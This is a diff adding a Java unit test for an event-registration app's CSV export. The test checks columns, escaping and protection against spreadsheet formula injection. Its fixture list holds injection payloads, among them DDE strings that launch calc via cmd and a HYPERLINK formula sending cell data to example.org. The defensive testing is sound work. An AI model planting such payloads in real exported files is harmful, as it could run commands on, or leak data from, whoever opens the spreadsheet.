@@ -1,0 +1,275 @@
+package nl.samenkomst.api;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.io.IOException;
+import java.io.StringReader;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Optional;
+import java.util.OptionalInt;
+import java.util.Random;
+import java.util.UUID;
+import nl.samenkomst.domain.EmailAddress;
+import nl.samenkomst.domain.Language;
+import nl.samenkomst.domain.Parsed;
+import nl.samenkomst.domain.registration.Answers;
+import nl.samenkomst.domain.registration.Correspondence;
+import nl.samenkomst.domain.registration.LinkSecret;
+import nl.samenkomst.domain.registration.ListedRegistration;
+import nl.samenkomst.domain.registration.Person;
+import nl.samenkomst.domain.registration.Registration;
+import nl.samenkomst.domain.registration.RegistrationId;
+import nl.samenkomst.domain.registration.Standing;
+import nl.samenkomst.domain.session.Question;
+import nl.samenkomst.domain.session.QuestionId;
+import nl.samenkomst.domain.session.Session;
+import nl.samenkomst.domain.session.SessionDocument;
+import nl.samenkomst.domain.session.SessionDocumentFields;
+import nl.samenkomst.domain.session.SessionId;
+import nl.samenkomst.domain.session.ThemeId;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVParser;
+import org.apache.commons.csv.CSVRecord;
+import org.junit.jupiter.api.Test;
+
+/** The list as a spreadsheet reads it: parsed by other people's code than what wrote it. */
+final class RegistrationsCsvTest {
+
+    private static final Instant NOW = Instant.parse("2026-11-02T09:00:00Z");
+    private static final String FORMULA = "(?s)[\\s\"\u00a0]*[=+\\-@\uff1d\uff0b\uff0d\uff20].*|(?s)[\\t\\r].*";
+    private static final QuestionId TEXT = new QuestionId("vraag");
+    private static final QuestionId CHOICES = new QuestionId("keuzes");
+    private static final QuestionId YES_NO = new QuestionId("lunch");
+    private static final Session SESSION = session("nl", "Wat wil je weten?");
+
+    @Test
+    void everybodyHasALineInTheSessionsLanguageAndEveryQuestionAColumn() throws IOException {
+        Answers answers = new Answers(
+                Map.of(TEXT, List.of("Alles,\n\"echt\""), CHOICES, List.of("a", "b"), YES_NO, List.of(Answers.YES)));
+        ListedRegistration noor =
+                listed("Noor", answers, new Standing.Confirmed(NOW, false, theme()), Optional.of(true));
+        ListedRegistration piet =
+                listed("Piet", Answers.NONE, new Standing.Waitlisted(NOW, 4, Optional.empty()), Optional.empty());
+
+        String csv = RegistrationsCsv.of(SESSION, List.of(noor, piet));
+        assertThat(csv).startsWith("\uFEFF\"Stand\",").endsWith("\r\n").doesNotContainPattern("(?<!\r)\n\"Stand");
+        List<Map<String, String>> lines = read(csv);
+        assertThat(lines.getFirst())
+                .containsExactly(
+                        Map.entry("Stand", "heeft een plek"),
+                        Map.entry("Plek in de rij", ""),
+                        Map.entry("Naam", "Noor"),
+                        Map.entry("E-mailadres", "noor@example.org"),
+                        Map.entry("Organisatie", "Gemeente Ede"),
+                        Map.entry("Thema", "Tafel 1"),
+                        Map.entry("Wat wil je weten?", "Alles,\n\"echt\""),
+                        Map.entry("Welke?", "a; b"),
+                        Map.entry("Eet je mee?", "ja"),
+                        Map.entry("Aanwezig", "ja"),
+                        Map.entry("Taal", "nl"),
+                        Map.entry("Aangemeld op", "2026-11-02 10:00"),
+                        Map.entry("Nummer", noor.registration().id().value()));
+        assertThat(lines.get(1))
+                .containsEntry("Stand", "wachtlijst")
+                .containsEntry("Plek in de rij", "3")
+                .containsEntry("Eet je mee?", "")
+                .containsEntry("Aanwezig", "");
+        assertThat(read(RegistrationsCsv.of(session("en", "What?"), List.of(piet)))
+                        .getFirst())
+                .containsEntry("State", "waiting list");
+    }
+
+    @Test
+    void whatWasAnsweredToAQuestionThatIsNoLongerAskedIsThereByItsId() throws IOException {
+        Answers answers = new Answers(Map.of(new QuestionId("oud"), List.of("Ja hoor")));
+        ListedRegistration noor = listed("Noor", answers, new Standing.Declined(NOW, ""), Optional.empty());
+
+        assertThat(read(RegistrationsCsv.of(SESSION, List.of(noor))).getFirst()).containsEntry("oud", "Ja hoor");
+    }
+
+    @Test
+    void noCellIsAFormulaWhateverSomebodyTyped() throws IOException {
+        for (String hostile : hostile()) {
+            Answers answers = new Answers(Map.of(TEXT, List.of(hostile), CHOICES, List.of(hostile, hostile)));
+            ListedRegistration one =
+                    listed(hostile, answers, new Standing.Confirmed(NOW, false, theme()), Optional.empty());
+            String csv = RegistrationsCsv.of(session("nl", hostile), List.of(one));
+
+            List<List<String>> lines = cells(csv, ',');
+            assertThat(lines).as(hostile).hasSize(2).allMatch(line -> line.size() == 13);
+            assertThat(lines).as(hostile).allSatisfy(line -> assertThat(line).allMatch(cell -> !cell.matches(FORMULA)));
+            assertThat(lines.get(1).get(2).replace("'", ""))
+                    .as("nothing of it is lost")
+                    .isEqualTo(hostile.replace("'", ""));
+            for (String part : csv.replace("\uFEFF", "").split("[;\\t\\r\\n]", -1)) {
+                assertThat(part.replaceFirst("^\"+", ""))
+                        .as("where cells are parted at semicolons: %s", hostile)
+                        .doesNotStartWith("=")
+                        .doesNotStartWith("+")
+                        .doesNotStartWith("@")
+                        .doesNotStartWith("-");
+            }
+        }
+    }
+
+    @Test
+    void whatIsNoFormulaStaysAsItIs() throws IOException {
+        for (String plain : List.of("Noor-Anne d'Hondt", "a = b", "noor@example.org", "1 + 1", "tot 10; of 11")) {
+            ListedRegistration one = listed(plain, Answers.NONE, new Standing.Declined(NOW, ""), Optional.empty());
+            assertThat(cells(RegistrationsCsv.of(SESSION, List.of(one)), ',')
+                            .get(1)
+                            .get(2))
+                    .isEqualTo(plain);
+        }
+    }
+
+    @Test
+    void theFilesNameNeedsNoEscaping() {
+        assertThat(RegistrationsCsv.disposition(SESSION))
+                .isEqualTo("attachment; filename*=UTF-8''versnellingskamer-aanmeldingen.csv");
+    }
+
+    /** What spreadsheets run, and 500 more from the same characters; a seed that fails is always the same. */
+    private static List<String> hostile() {
+        List<String> hostile = new ArrayList<>(List.of(
+                "=1+1",
+                "+31 6 12345678",
+                "-2+3+cmd|' /C calc'!A0",
+                "@SUM(1+1)*cmd|' /C calc'!A0",
+                "\t=1+1",
+                "\r=1+1",
+                "=HYPERLINK(\"http://example.org?\"&A1;\"klik\")",
+                "\"=1+1",
+                "\"\"\"=1+1",
+                " =1+1",
+                "a;=1+1;b",
+                "a\n=1+1",
+                "a\r\n\"=1+1\"",
+                "\",=1+1,\"",
+                "\uff1d1+1",
+                "'=1+1",
+                "\u00a0=1+1",
+                "%0A=1+1"));
+        Random random = new Random(11);
+        String characters = "=+-@\t\r\n;,\"' a1(!|\u00e9\uff1d\u00a0";
+        for (int i = 0; i < 500; i++) {
+            StringBuilder typed = new StringBuilder();
+            for (int length = 1 + random.nextInt(12); length > 0; length--) {
+                typed.append(characters.charAt(random.nextInt(characters.length())));
+            }
+            hostile.add(typed.toString());
+        }
+        return hostile;
+    }
+
+    private static List<Map<String, String>> read(String csv) throws IOException {
+        CSVFormat format = CSVFormat.RFC4180
+                .builder()
+                .setHeader()
+                .setSkipHeaderRecord(true)
+                .get();
+        try (CSVParser parser = format.parse(new StringReader(csv.substring(1)))) {
+            List<Map<String, String>> lines = new ArrayList<>();
+            for (CSVRecord line : parser) {
+                Map<String, String> byName = new LinkedHashMap<>();
+                parser.getHeaderNames().forEach(name -> byName.put(name, line.get(name)));
+                lines.add(byName);
+            }
+            return lines;
+        }
+    }
+
+    private static List<List<String>> cells(String csv, char separator) throws IOException {
+        CSVFormat format = CSVFormat.RFC4180.builder().setDelimiter(separator).get();
+        try (CSVParser parser = format.parse(new StringReader(csv.substring(1)))) {
+            return parser.stream().map(CSVRecord::toList).toList();
+        }
+    }
+
+    private static Optional<ThemeId> theme() {
+        return Optional.of(new ThemeId("tafel-1"));
+    }
+
+    private static ListedRegistration listed(
+            String name, Answers answers, Standing standing, Optional<Boolean> present) {
+        EmailAddress email = new EmailAddress("noor@example.org");
+        Registration registration = new Registration(
+                SESSION.id(),
+                RegistrationId.of(SESSION.id(), email),
+                new LinkSecret("0123456789abcdefghijkA"),
+                new UUID(0, 1),
+                new Person(name, email, Optional.of("Gemeente Ede")),
+                Language.NL,
+                NOW,
+                answers,
+                NOW,
+                standing,
+                0,
+                Correspondence.none(NOW),
+                1,
+                Optional.empty(),
+                1,
+                present);
+        boolean waits = standing instanceof Standing.Waitlisted;
+        return new ListedRegistration(registration, waits ? OptionalInt.of(3) : OptionalInt.empty());
+    }
+
+    private static Session session(String language, String label) {
+        Map<String, Object> tree = Map.of(
+                "title", "Versnellingskamer",
+                "organiser", "Zorgalliantie",
+                "contact", "zorgalliantie@example.org",
+                "language", language,
+                "start", "2026-12-03T15:00:00+01:00",
+                "end", "2026-12-03T17:00:00+01:00",
+                "themes", List.of(Map.of("id", "tafel-1", "title", "Tafel 1")),
+                "questions",
+                        List.of(
+                                Map.of("id", "vraag", "label", "Wat?"),
+                                Map.of(
+                                        "id",
+                                        "keuzes",
+                                        "label",
+                                        "Welke?",
+                                        "kind",
+                                        "choices",
+                                        "options",
+                                        List.of("a", "b")),
+                                Map.of("id", "lunch", "label", "Eet je mee?", "kind", "yes-no")));
+        SessionDocument document =
+                switch (SessionDocumentFields.parse(tree)) {
+                    case Parsed.Right<SessionDocument> right -> right.value();
+                    case Parsed.Wrong<SessionDocument> wrong -> throw new AssertionError(wrong.problems());
+                };
+        return Session.published(new SessionId("versnellingskamer"), labelled(document, label), NOW);
+    }
+
+    /** Also with a label that the fields would refuse. */
+    private static SessionDocument labelled(SessionDocument document, String label) {
+        return new SessionDocument(
+                document.about(),
+                document.when(),
+                document.where(),
+                document.signUp(),
+                document.themes(),
+                document.questions().stream()
+                        .map(asked -> asked.id().equals(TEXT)
+                                ? new Question(
+                                        asked.id(),
+                                        label,
+                                        asked.kind(),
+                                        asked.options(),
+                                        asked.required(),
+                                        asked.theme())
+                                : asked)
+                        .toList(),
+                document.programme(),
+                document.materials(),
+                document.reminders(),
+                document.retention());
+    }
+}
